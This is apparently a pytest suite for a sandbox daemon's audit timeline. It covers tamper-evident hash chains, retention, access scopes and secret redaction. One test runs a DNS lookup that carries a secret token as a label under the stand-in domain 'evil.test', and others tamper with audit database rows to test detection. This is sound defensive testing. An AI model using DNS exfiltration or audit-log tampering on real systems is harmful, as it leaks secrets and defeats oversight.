"""The audit timeline (issue 13, docs/audit.md): every event that crosses a sandbox's
boundary, in order, per sandbox and per account; the per-account hash chain that verify
recomputes (an edit or a deletion in the database makes it fail); retention pruning that
keeps the chain verifiable; scopes; and never a secret value."""

import base64
import glob
import json
import os
import select
import sqlite3
import subprocess
import urllib.parse

import pytest

from brigtest import BUILD, Api, Brigd, Sandbox, wait_for
from test_exec import events as ndjson, stream

SECRET = "tk9f8e7d6c5b4a3f2e1d0cq7"  # lower case: it also travels as a DNS label
B64 = base64.b64encode(SECRET.encode()).decode()


def timeline(api, sid, **q):
    qs = urllib.parse.urlencode(q)
    return api.ok("GET", f"/v1/sandboxes/{sid}/timeline?{qs}").json()


def kinds(tl):
    return [e["kind"] for e in tl["events"]]


def no_secret(text):
    assert SECRET not in text and B64[:16] not in text, text[:2000]


def db_text(state_dir):
    out = b""
    for f in glob.glob(os.path.join(state_dir, "brig.db*")):
        with open(f, "rb") as fh:
            out += fh.read()
    return out


def verify(a):
    return a.ok("GET", "/v1/audit/verify").json()


@pytest.mark.base
def test_every_kind_in_order_without_secrets(api, daemon):
    p = api.ok("POST", "/v1/projects", {"name": "audited"}).json()
    api.ok("PATCH", f"/v1/projects/{p['id']}",
           {"egress": {"mode": "allowlist", "domains": ["allowed.test"]}})
    sb = api.create(template="base", project=p["id"], secrets={"TOKEN": SECRET})
    sid = sb["id"]
    try:
        r = api.exec(sid, f"echo $TOKEN; echo {SECRET} | base64 >&2; exit 3")
        assert r["exit_code"] == 3 and SECRET not in json.dumps(r)
        conn, resp = stream(api, f"/v1/sandboxes/{sid}/exec", {"cmd": "echo streamed"})
        assert [e["type"] for e in ndjson(resp)][-1] == "exit"
        conn.close()
        bg = api.ok("POST", f"/v1/sandboxes/{sid}/exec", {"cmd": "sleep 60", "background": True},
                    expect=(202,)).json()
        api.ok("POST", f"/v1/sandboxes/{sid}/processes/{bg['pid']}/stdin/close", expect=(204,))
        api.ok("POST", f"/v1/sandboxes/{sid}/processes/{bg['pid']}/signal", {"signal": "TERM"},
               expect=(204,))
        api.put_file(sid, f"/tmp/{SECRET}.txt", b"hello audit\n")
        assert api.get_file(sid, f"/tmp/{SECRET}.txt") == b"hello audit\n"
        api.ok("POST", f"/v1/sandboxes/{sid}/files/mkdir", {"path": "/tmp/d"}, expect=(201,))
        api.ok("POST", f"/v1/sandboxes/{sid}/files/move",
               {"from": f"/tmp/{SECRET}.txt", "to": "/tmp/d/x.txt"}, expect=(204,))
        api.ok("GET", "/v1/sandboxes/%s/files/tar?path=/tmp/d" % sid)
        api.ok("DELETE", f"/v1/sandboxes/{sid}/files?path=/tmp/d&recursive=1", expect=(204,))
        assert api.exec(sid, f"getent hosts {SECRET}.evil.test")["exit_code"] != 0
        # brigd's host side, through the gateway: dropped and logged as denied
        api.exec(sid, "curl -sS -m 1 http://$(awk '/nameserver/{print $2}' /etc/resolv.conf):81/"
                      " || true", timeout=20)
        api.ok("POST", f"/v1/sandboxes/{sid}/timeout", {"timeout": 600})
        api.ok("PATCH", f"/v1/projects/{p['id']}", {"egress": {"mode": "none"}})
        wait_for(lambda: "net.denied" in kinds(timeline(api, sid, limit=1000)), timeout=10,
                 what="the denied connection in the timeline")
    finally:
        api.delete(sid)
    tl = timeline(api, sid, limit=1000)
    assert tl["ended"] and tl["next_after"] is None
    ks = kinds(tl)
    assert ks[0] == "sandbox.created" and ks[-1] == "sandbox.ended"
    order = ["sandbox.created", "exec", "exec", "exec", "process.stdin_close", "process.signal",
             "file.write", "file.read", "file.mkdir", "file.move", "tar.read", "file.delete"]
    assert [k for k in ks if k in order][:len(order)] == order, ks
    for k in ("dns", "net.denied", "sandbox.timeout", "project.policy"):
        assert k in ks, (k, ks)
    seqs = [e["seq"] for e in tl["events"]]
    assert seqs == sorted(seqs)
    ev = {k: [e for e in tl["events"] if e["kind"] == k] for k in set(ks)}
    created = ev["sandbox.created"][0]["data"]
    assert created["template"] == "base" and created["isolation"] == "container"
    assert created["egress"]["mode"] == "allowlist" and created["secrets"] == ["TOKEN"]
    first = ev["exec"][0]
    assert first["actor"].startswith("key_") and first["sandbox_id"] == sid
    d = first["data"]
    assert d["exit_code"] == 3 and d["signal"] is None and d["secrets"] == ["TOKEN"]
    assert d["stdout_bytes"] == len(SECRET) + 1 and d["redactions"] == 2, d
    assert "[REDACTED:TOKEN]" in d["command"] and d["duration_ms"] >= 0 and d["ended_at"]
    assert ev["exec"][1]["data"]["stdout_bytes"] == len("streamed\n")
    assert ev["exec"][2]["data"]["background"] and ev["exec"][2]["data"]["pid"] == bg["pid"]
    assert ev["process.signal"][0]["data"] == {"pid": bg["pid"], "signal": 15, "name": "TERM"}
    w = ev["file.write"][0]["data"]
    assert w["path"] == "/tmp/[REDACTED:TOKEN].txt" and w["size"] == 12
    import hashlib
    assert w["sha256"] == hashlib.sha256(b"hello audit\n").hexdigest()
    assert ev["file.read"][0]["data"]["sha256"] == w["sha256"]
    dns = [e["data"] for e in ev["dns"]]
    assert any(not x["allowed"] and x["rcode"] == "REFUSED" and "evil.test" in x["name"]
               for x in dns), dns
    assert any(x["dst"].startswith("10.") and x["dport"] == 81
               for x in (e["data"] for e in ev["net.denied"])), ev["net.denied"]
    assert ev["project.policy"][-1]["data"]["egress"] == {"mode": "none"}
    assert ev["sandbox.ended"][0]["data"]["reason"] == "deleted_by_api"
    # Never a secret value: not in the timeline, the export, nor the database's files.
    no_secret(json.dumps(tl))
    no_secret(api.ok("GET", "/v1/audit").body.decode())
    assert SECRET.encode() not in db_text(daemon.state_dir)
    assert B64[:16].encode() not in db_text(daemon.state_dir)
    assert verify(api)["ok"]


def test_every_download_is_recorded_however_small(api):
    """A download whose client reads exactly Content-Length bytes and hangs up (the server
    never asks the reader for more): empty, one byte and one chunk are each a file.read
    with the size and hash of what was sent."""
    import hashlib
    import http.client
    with Sandbox(api, template="minimal") as sb:
        bodies = {"/tmp/empty": b"", "/tmp/one": b"x", "/tmp/chunk": os.urandom(70000)}
        for path, body in bodies.items():
            api.put_file(sb.id, path, body)
            u = urllib.parse.urlsplit(api.base_url)
            conn = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
            conn.request("GET", f"/v1/sandboxes/{sb.id}/files?path={path}",
                         headers={"Authorization": f"Bearer {api.key}", "Connection": "close"})
            r = conn.getresponse()
            assert r.status == 200 and r.read() == body
            conn.close()

        def reads():
            return [e["data"] for e in timeline(api, sb.id, limit=1000)["events"]
                    if e["kind"] == "file.read"]
        wait_for(lambda: len(reads()) == 3, timeout=10, what="three file.read events")
        got = {e["path"]: (e["size"], e["sha256"]) for e in reads()}
        assert got == {p: (len(b), hashlib.sha256(b).hexdigest()) for p, b in bodies.items()}


def test_follow_streams_new_events_and_ends_with_the_sandbox(api):
    with Sandbox(api) as sb:
        conn, resp = stream(api, f"/v1/sandboxes/{sb.id}/timeline?follow=1", method="GET")
        assert resp.status == 200 and resp.getheader("Content-Type") == "application/x-ndjson"
        lines = ndjson(resp)
        assert next(lines)["kind"] == "sandbox.created"
        sb.exec("echo live")
        e = next(lines)
        assert e["kind"] == "exec" and e["data"]["command"] == "echo live"
    rest = [e["kind"] for e in lines]  # the stream ends once the sandbox did
    conn.close()
    assert rest == ["sandbox.ended"]


def test_paging_and_deleted_sandboxes(api):
    with Sandbox(api) as sb:
        for i in range(5):
            sb.exec(f"echo {i}")
    whole = timeline(api, sb.id)
    assert len(whole["events"]) == 7 and whole["ended"]
    seen, after = [], 0
    while True:
        page = timeline(api, sb.id, after=after, limit=2)
        seen += page["events"]
        if page["next_after"] is None:
            break
        after = page["next_after"]
    assert seen == whole["events"]
    for bad in ("limit=0", "limit=abc", "after=-1", "limit=100000"):
        assert api.request("GET", f"/v1/sandboxes/{sb.id}/timeline?{bad}").status == 400
    assert api.request("GET", "/v1/sandboxes/sbx_nosuchsandbox/timeline").status == 404
    # The export: JSON Lines, in order, from a time or a seq on.
    r = api.ok("GET", f"/v1/audit?after={whole['events'][0]['seq'] - 1}&limit=3")
    assert r.headers["content-type"] == "application/x-ndjson"
    lines = [json.loads(l) for l in r.body.decode().splitlines()]
    assert [l["seq"] for l in lines] == [e["seq"] for e in whole["events"][:3]]
    assert int(r.headers["x-brig-next-after"]) == lines[-1]["seq"]
    since = whole["events"][-1]["at"]
    assert api.ok("GET", f"/v1/audit?since={since}").body.decode().count("\n") >= 1
    assert api.request("GET", "/v1/audit?since=yesterday").status == 400


def test_scopes(api, daemon):
    op = daemon.operator()
    b = op.ok("POST", "/v1/accounts", {"name": "audit-b"}).json()
    bapi = Api(api.base_url, b["api_key"])
    p = api.ok("POST", "/v1/projects", {"name": "audit-scoped"}).json()
    k = api.ok("POST", f"/v1/projects/{p['id']}/keys", {"scope": "sandbox"}).json()
    kapi = Api(api.base_url, k["key"])
    with Sandbox(api) as a_sb, Sandbox(kapi) as k_sb, Sandbox(bapi) as b_sb:
        a_sb.exec("echo a")
        assert kapi.request("GET", f"/v1/sandboxes/{k_sb.id}/timeline").status == 200
        assert kapi.request("GET", f"/v1/sandboxes/{a_sb.id}/timeline").status == 404
        assert bapi.request("GET", f"/v1/sandboxes/{a_sb.id}/timeline").status == 404
        assert api.request("GET", f"/v1/sandboxes/{b_sb.id}/timeline").status == 404
        assert op.request("GET", f"/v1/sandboxes/{b_sb.id}/timeline").status == 403
        assert kapi.request("GET", "/v1/audit").status == 403
        assert kapi.request("GET", "/v1/audit/verify").status == 403
        b_lines = bapi.ok("GET", "/v1/audit").body.decode()
        assert b_sb.id in b_lines and a_sb.id not in b_lines
        assert bapi.request("GET", f"/v1/audit?account={api.ok('GET', '/v1/account').json()['id']}"
                            ).status == 403
        everyone = op.ok("GET", "/v1/audit").body.decode()
        assert a_sb.id in everyone and b_sb.id in everyone
        assert b_sb.id not in op.ok("GET", f"/v1/audit?account={b['id'] + 'x'}").body.decode()
        assert verify(bapi) == {"ok": True, "accounts": 1, "records": verify(bapi)["records"],
                                "broken": None}
        assert verify(op)["ok"] and verify(op)["accounts"] >= 2


def cli(d, *args):
    env = dict(os.environ, BRIG_URL=d.url, BRIG_API_KEY=d.key)
    return subprocess.run([os.path.join(BUILD, "brig"), *args], env=env, capture_output=True,
                          text=True, timeout=60)


def test_cli_timeline_follow_and_export(api, daemon):
    """brig timeline (a table, --json, --follow live until the end) and brig audit export
    print what the routes answer."""
    env = dict(os.environ, BRIG_URL=daemon.url, BRIG_API_KEY=daemon.key)
    with Sandbox(api) as sb:
        follow = subprocess.Popen([os.path.join(BUILD, "brig"), "timeline", "--follow", "--json",
                                   sb.id], env=env, stdout=subprocess.PIPE, text=True)
        try:
            ready, _, _ = select.select([follow.stdout], [], [], 30)
            assert ready, "brig timeline --follow printed nothing"
            assert json.loads(follow.stdout.readline())["kind"] == "sandbox.created"
            sb.exec("echo via-cli")  # while it follows
        except BaseException:
            follow.kill()
            raise
    out, _ = follow.communicate(timeout=30)  # it ends once the sandbox did
    assert follow.returncode == 0
    assert [json.loads(l)["kind"] for l in out.splitlines()] == ["exec", "sandbox.ended"]
    whole = timeline(api, sb.id)["events"]
    r = cli(daemon, "timeline", "--json", sb.id)
    assert r.returncode == 0 and [json.loads(l) for l in r.stdout.splitlines()] == whole, r
    table = cli(daemon, "timeline", sb.id).stdout.splitlines()
    assert [l.split()[1] for l in table] == [e["kind"] for e in whole], table
    assert "echo via-cli" in table[1] and whole[1]["actor"] in table[1]
    r = cli(daemon, "audit", "export", "--since", whole[0]["at"])
    lines = [json.loads(l) for l in r.stdout.splitlines()]
    assert r.returncode == 0 and [e for e in lines if e["sandbox_id"] == sb.id] == whole
    assert [e["seq"] for e in lines] == sorted(e["seq"] for e in lines)
    r = cli(daemon, "audit", "export", "--since", "2999-01-01T00:00:00Z")
    assert r.returncode == 0 and r.stdout == ""
    r = cli(daemon, "audit", "export", "--since", "yesterday")
    assert r.returncode != 0 and "since" in r.stderr, r
    assert cli(daemon, "timeline", "sbx_nosuchsandbox").returncode != 0


def edit_db(d, sql, *args):
    con = sqlite3.connect(os.path.join(d.state_dir, "brig.db"))
    with con:
        cur = con.execute(sql, args)
        n = cur.rowcount
    con.close()
    assert n == 1, (sql, n)


def test_verify_names_the_first_broken_record(fresh_daemon):
    d = fresh_daemon
    d.start()
    a = d.api()
    with Sandbox(a) as sb:
        for i in range(4):
            sb.exec(f"echo {i}")
    ok = verify(a)
    assert ok["ok"] and ok["records"] == 6 and ok["broken"] is None
    r = cli(d, "audit", "verify")
    assert r.returncode == 0 and "ok" in r.stdout, r
    acc = a.ok("GET", "/v1/account").json()["id"]
    d.stop()
    con = sqlite3.connect(os.path.join(d.state_dir, "brig.db"))
    row = con.execute("SELECT n, data FROM audit WHERE account_id = ? AND n = 3", (acc,)).fetchone()
    last = con.execute("SELECT * FROM audit WHERE account_id = ? ORDER BY n DESC LIMIT 1",
                       (acc,)).fetchone()
    con.close()

    # An edited record: its hash no longer matches.
    edit_db(d, "UPDATE audit SET data = replace(data, 'echo 1', 'echo X') WHERE n = 3 AND "
               "account_id = ?", acc)
    d.start()
    v = verify(d.api())
    assert not v["ok"] and v["broken"]["n"] == 3 and "altered" in v["broken"]["problem"], v
    r = cli(d, "audit", "verify")
    assert r.returncode != 0 and "3" in r.stdout + r.stderr, r
    d.stop()
    edit_db(d, "UPDATE audit SET data = ? WHERE n = 3 AND account_id = ?", row[1], acc)
    d.start()
    assert verify(d.api())["ok"]
    d.stop()

    # A deleted record in the middle, and then at the end.
    edit_db(d, "DELETE FROM audit WHERE n = 4 AND account_id = ?", acc)
    d.start()
    v = verify(d.api())
    assert not v["ok"] and v["broken"]["n"] == 4 and "missing" in v["broken"]["problem"], v
    d.stop()
    con = sqlite3.connect(os.path.join(d.state_dir, "brig.db"))
    with con:
        con.execute("DELETE FROM audit WHERE account_id = ? AND n >= 3", (acc,))
        con.execute("UPDATE audit_chains SET head_n = 2, head_hash = "
                    "(SELECT hash FROM audit WHERE account_id = ?1 AND n = 2) "
                    "WHERE account_id = ?1", (acc,))
    con.close()
    d.start()
    assert verify(d.api())["ok"]  # the head moved too: consistent again
    d.stop()
    edit_db(d, "DELETE FROM audit WHERE n = 2 AND account_id = ?", acc)
    d.start()
    v = verify(d.api())
    assert not v["ok"] and v["broken"]["n"] == 2, v
    assert last[2] == 6


def test_retention_prunes_and_verify_stays_green(fresh_daemon, tmp_path):
    d = fresh_daemon
    d.start()
    a = d.api()
    with Sandbox(a) as sb:
        sb.exec("echo old")
    before = verify(a)
    assert before["ok"] and before["records"] == 3
    d.stop()
    cfg = tmp_path / "brigd.ini"
    cfg.write_text("[brigd]\naudit_retention = 1\n")
    d2 = Brigd(d.state_dir, ["--config", str(cfg)])
    d2.start()
    try:
        a2 = d2.api()
        wait_for(lambda: verify(a2)["records"] == 0, timeout=15, what="the old events pruned")
        assert verify(a2)["ok"]
        assert timeline(a2, sb.id)["events"] == []  # the sandbox is still known, its events gone
        with Sandbox(a2) as sb2:
            sb2.exec("echo new")
        v = verify(a2)
        assert v["ok"] and v["records"] >= 1
        first = timeline(a2, sb2.id)["events"][0]
        assert first["n"] == 4  # the chain goes on behind the checkpoint
        con = sqlite3.connect(f"file:{os.path.join(d.state_dir, 'brig.db')}?mode=ro", uri=True)
        base = con.execute("SELECT base_n FROM audit_chains").fetchall()
        con.close()
        assert all(n >= 4 for (n,) in base), base
    finally:
        d2.stop()
